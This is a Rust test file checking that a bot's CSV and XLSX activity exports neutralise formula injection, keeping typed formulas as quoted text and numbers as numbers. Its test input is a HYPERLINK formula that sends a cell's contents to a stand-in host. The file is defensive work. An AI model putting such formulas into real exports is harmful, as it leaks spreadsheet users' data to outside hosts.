//! Files we hand out: text people typed that looks like a formula is
//! exported as text (OWASP CSV injection), numbers stay numbers. Both
//! backends.

use std::io::Read;

use crate::helpers::{TestDb, script, texts};

/// `/log` text that looks like a formula lands in the exports as text:
/// CSV with a leading `'`, XLSX as a string cell with the quote prefix and
/// no formula anywhere; the number columns stay numbers.
#[tokio::test]
async fn formula_text_is_exported_as_text() {
    let typed = r#"=HYPERLINK("http://x/?q="&B3,"点击") 3月5日 团课 20人"#;
    for db in TestDb::both().await {
        let b = db.backend;
        let t = texts(
            &script(
                &db,
                &format!(
                    ":today 2026-03-10\n:admin zhang\n:as u1 小王\n我是 县一中\n:as zhang\n同意 1\n:as u1 小王\n/log {typed}\n"
                ),
                true,
            )
            .await,
        );
        assert!(
            t.last().is_some_and(|l| l.starts_with("✅ 已记录 #1")),
            "{b}: {t:?}"
        );
        let store = db.store().await;
        let filter = tuanbot::store::activities::Filter {
            from: "2026-03-01",
            to: "2026-03-31",
            org_id: None,
        };
        let dir = tempfile::tempdir().unwrap();
        let csv_path = dir.path().join("a.csv");
        let xlsx_path = dir.path().join("a.xlsx");
        for path in [&csv_path, &xlsx_path] {
            let n = tuanbot::export::activities(&store, &filter, chrono_tz::Asia::Shanghai, path)
                .await
                .unwrap();
            assert_eq!(n, 1, "{b}");
        }

        // CSV: the 原文 cell starts with a quote, every cell is inert.
        let mut csv = csv::ReaderBuilder::new().from_path(&csv_path).unwrap();
        let header = csv.headers().unwrap().clone();
        let row = csv.records().next().unwrap().unwrap();
        let source = header.iter().position(|h| h == "原文").unwrap();
        assert_eq!(&row[source], format!("'{typed}"), "{b}");
        for cell in row.iter() {
            assert!(
                !tuanbot::export::looks_like_formula(cell),
                "{b}: a live cell {cell:?}"
            );
        }
        let people = header.iter().position(|h| h == "人数").unwrap();
        assert_eq!(&row[people], "20");

        // XLSX: what was typed, as a string; no formula; quote-prefixed.
        use calamine::Reader;
        let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx_path).unwrap();
        let range = book.worksheet_range("活动").unwrap();
        let formulas = book.worksheet_formula("活动").unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{b}: formulas"
        );
        let cells: Vec<&calamine::Data> = range.rows().nth(1).unwrap().iter().collect();
        let texts: Vec<String> = cells.iter().map(|c| c.to_string()).collect();
        assert!(
            texts.iter().any(|c| c.starts_with("=HYPERLINK(")),
            "{b}: {texts:?}"
        );
        for (c, v) in cells.iter().enumerate() {
            if v.to_string().starts_with('=') {
                assert!(matches!(v, calamine::Data::String(_)), "{b}: column {c}");
            }
        }
        assert_eq!(*cells[people], calamine::Data::Float(20.0), "{b}");
        assert_eq!(cells[source].to_string(), typed, "{b}: kept as typed");
        let mut styles = String::new();
        zip::ZipArchive::new(std::fs::File::open(&xlsx_path).unwrap())
            .unwrap()
            .by_name("xl/styles.xml")
            .unwrap()
            .read_to_string(&mut styles)
            .unwrap();
        assert!(styles.contains("quotePrefix=\"1\""), "{b}: {styles}");
    }
}
